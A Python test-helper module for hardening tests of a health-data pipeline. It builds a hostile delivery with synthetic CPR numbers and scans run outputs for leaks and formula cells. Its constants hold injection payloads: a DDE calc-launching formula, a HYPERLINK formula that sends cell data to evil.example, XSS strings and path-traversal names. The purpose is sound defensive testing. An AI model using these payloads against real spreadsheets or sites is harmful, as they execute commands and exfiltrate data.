"""A hostile delivery for the whole-run hardening tests, and helpers to scan what a run leaves.

The deck is the spec's two-patient example (``tests/delivery_builder.BASE``) plus lines a
careless or malicious sender could put in a delivery: department codes that look like paths,
department names that are spreadsheet formulas or HTML, quarantined rows that start with a
formula, clear CPR numbers in the CPR column (plain, hyphenated, invalid) and in free-text
fields. Every CPR here fails the modulus-11 check (synthetic, as the spec asks).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

from tests.delivery_builder import CLEAR_CPRS

FORMULA = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1;"klik")'
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
# Refused since issue 13 (extract_id: a short safe token): see test_issue13_attacks.py.
PATH_LIKE_EXTRACT_ID = "../../../tmp/evil-extract<script>alert(2)</script>"
# A well-formed id that holds a CPR number (issue 13, 3): pseudonymised wherever it is stored.
EXTRACT_ID = "DMDB-1505702223"
# The delivery folder's name holds a CPR number too (of a patient in the cpr column).
DELIVERY_NAME = "DMDB-0807580128-hostile"

# Department codes a delivery might carry: none of them may steer a path. Each gets a patient
# with a deviation, so each gets its own deviation list and dashboard folder.
HOSTILE_DEPARTMENTS = [
    # code, name, hospital (region must be valid, or the row is quarantined)
    ("../../escape", FORMULA, f"+SUM(1+1)*{FORMULA}"),
    ("/tmp/abs", "@SUM(1+1)", "-2+3"),
    ("CON", SCRIPT, IMG),
    ("..", "  =1+1", "\tTAB"),
    ("abc", "Afd abc", "H abc"),
    ("ABC", "Afd ABC", "H ABC"),
    ("a\\b:c*?", "Afd", "H"),
    ("X" * 300, "Lang", "H"),
    ("\u202eexe.txt", "\u202eRTL\u202c", "H"),
    ("\uff0e\uff0e\uff0f\uff0e\uff0e", "Fuldbredde", "H"),
    (".hidden", "Skjult", "H"),
    ("aux.txt", "Aux", "H"),
    ("=1+2", HYPERLINK.replace(";", ","), "=HYPERLINK(x)"),
]
HOSTILE_CODES = [code for code, _, _ in HOSTILE_DEPARTMENTS]
# One synthetic patient per hostile department (every CPR fails modulus 11), diagnosed in it:
# hdt_evaluated = N gives an MM01 deviation there.
DEPARTMENT_CPRS = ["0103601000", "0203601000", "0303601000", "0403601000", "0503601000", "0603601000",
                   "0703601000", "0803601000", "0903601001", "1003601000", "1103601000", "1203601000",
                   "1303601000"]
EXTRA_CPRS = DEPARTMENT_CPRS
# CPR numbers that appear only in free-text fields (never in a cpr column).
FREE_TEXT_CPRS = ["1505702223", "210685-1119"]

HOSTILE = {
    "departments": [f"{code};{name};{hospital};Syddanmark" for code, name, hospital in HOSTILE_DEPARTMENTS] + [
        "4202099;Afd;Hosp;region 1505702223",                   # quarantined: the reason quotes the region
    ],
    "patients": [f"{cpr};M;{cpr[:2]}-{cpr[2:4]}-1960;" for cpr in DEPARTMENT_CPRS],
    "diagnoses": [f"{cpr};01-03-2025;DC900;{code};1;ingen;1;nej;N;;J;"
                  for cpr, code in zip(DEPARTMENT_CPRS, HOSTILE_CODES)],
    "labs": [
        f"1203614417;{FORMULA};ldh;1;U/L",                  # quarantined, formula in a field
        "120361-441;01-01-2025;ldh;1;U/L",                  # invalid CPR
        "=1+1;0807580128",                                  # malformed, formula first, CPR shifted
        "1203614417;05-09-2024;210685-1119;1;U/L",          # a CPR as the analysis: quoted by the reason
    ],
    "treatment_courses": [
        "0103601000;K3001;andet;Reg 1505702223;10-03-2025;;1;28",   # a CPR in free text
        "0103601000;=1+2;andet;=1+2;11-03-2025;;1;28",              # a formula as course_id
    ],
    "drugs": [
        "K3001;L01AA01;drug 210685-1119;1;mg;1",            # a CPR in free text
        "=1+2;L01AA01;=1+2;5;;1",                           # dose without unit: a quality warning on "=1+2"
        f"{HYPERLINK};L01AA01;x;1;mg;1",                    # malformed; record starts with a formula
        f"{FORMULA};L01AA01;y;1;mg;1",                      # orphan; record starts with a formula
    ],
}
# Whole files replaced: an extra header column whose name holds a CPR number (issue 13, 3).
HOSTILE_REPLACE = {
    "anthropometrics": ["cpr;measure_date;height_cm;weight_kg;pt1505702223", "1203614417;08-02-2025;181;86,5;x"],
}
MANIFEST = {"extract_id": EXTRACT_ID, "extracted_at": "2025-12-01"}


def cpr_needles(cprs: list[str]) -> list[str]:
    """Each CPR plain and hyphenated."""
    out = set()
    for cpr in cprs:
        digits = cpr.replace("-", "")
        out |= {digits, digits[:6] + "-" + digits[6:]}
    return sorted(out)


STRUCTURAL_NEEDLES = cpr_needles(CLEAR_CPRS + EXTRA_CPRS) + ["120361-441"]


def read_any(path: Path) -> str:
    """A file's text for scanning: XLSX and other zips unpacked, binary decoded leniently."""
    data = path.read_bytes()
    if data[:2] == b"PK":
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as zf:
                return "\n".join(zf.read(n).decode("utf-8", "replace") for n in zf.namelist())
        except zipfile.BadZipFile:
            pass
    return data.decode("utf-8", "replace") + "\n" + data.decode("latin-1")


def leaks(haystacks: dict[str, str], needles: list[str]) -> list[tuple[str, str]]:
    return [(where, n) for where, text in haystacks.items() for n in needles if n in text]


def duckdb_haystacks(database: Path) -> dict[str, str]:
    import duckdb

    out = {}
    con = duckdb.connect(str(database), read_only=True)
    try:
        for schema, table in con.execute(
                "select table_schema, table_name from information_schema.tables").fetchall():
            rows = con.execute(f'select * from "{schema}"."{table}"').fetchall()
            out[f"duckdb:{schema}.{table}"] = "\n".join(map(str, rows))
    finally:
        con.close()
    return out


def parquet_haystacks(folder: Path) -> dict[str, str]:
    """Every column of every Parquet file, as text (the files themselves are compressed)."""
    import polars as pl

    out = {}
    for path in sorted(folder.rglob("*.parquet")):
        frame = pl.read_parquet(path)
        for column in frame.columns:
            out[f"parquet:{path.name}:{column}"] = "\n".join(map(str, frame[column].to_list()))
    return out


def run_haystacks(run) -> dict[str, str]:
    """stdout, stderr, every file the run left (outputs, quality report, lock, blocked report),
    every DuckDB table, every Dagster event and every file of the Dagster home."""
    import dagster as dg
    from dagster._serdes import serialize_value

    hay = {"stdout": run.stdout, "stderr": run.stderr}
    for path in sorted(run.out.parent.rglob("*")):
        if path.is_file():
            hay[str(path.relative_to(run.root))] = read_any(path)
    hay.update(duckdb_haystacks(run.out / "audit.duckdb"))
    hay.update(parquet_haystacks(run.out))
    instance = dg.DagsterInstance.local_temp(str(run.dagster_home))
    try:
        records = instance.get_runs()
        assert len(records) == 1, "the run was not recorded in the temporary Dagster instance"
        for record in records:
            hay[f"dagster run {record.run_id}"] = serialize_value(record)
            events = instance.all_logs(record.run_id)
            assert len(events) > 100, "expected the run's whole event log"
            hay[f"dagster events {record.run_id}"] = "\n".join(serialize_value(e) for e in events)
    finally:
        instance.dispose()
    for path in sorted(run.dagster_home.rglob("*")):
        if path.is_file():
            hay[f"DAGSTER_HOME/{path.relative_to(run.dagster_home)}"] = read_any(path)
    return hay



# --- spreadsheet cells ------------------------------------------------------------------

DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?\d+([.,]\d+)?([eE][-+]?\d+)?%?")


def dangerous(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: starts (after spaces) with = + - @ tab or CR and
    is not simply a number."""
    stripped = cell.lstrip(" ")
    if not stripped or not (stripped.startswith(DANGEROUS_START) or cell.startswith(DANGEROUS_START)):
        return False
    return not NUMBER.fullmatch(stripped.strip())


def csv_cells(path: Path, delimiter: str) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def xlsx_cells(path: Path) -> tuple[list[str], int]:
    """Every text of an .xlsx (shared and inline strings) and the number of formula cells."""
    from xml.etree import ElementTree as ET

    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    texts, formulas = [], 0
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name == "xl/sharedStrings.xml":
                root = ET.fromstring(zf.read(name))
                for si in root.iter(f"{ns}si"):
                    texts.append("".join(t.text or "" for t in si.iter(f"{ns}t")))
            elif name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = ET.fromstring(zf.read(name))
                formulas += sum(1 for _ in root.iter(f"{ns}f"))
                for is_ in root.iter(f"{ns}is"):
                    texts.append("".join(t.text or "" for t in is_.iter(f"{ns}t")))
    return texts, formulas
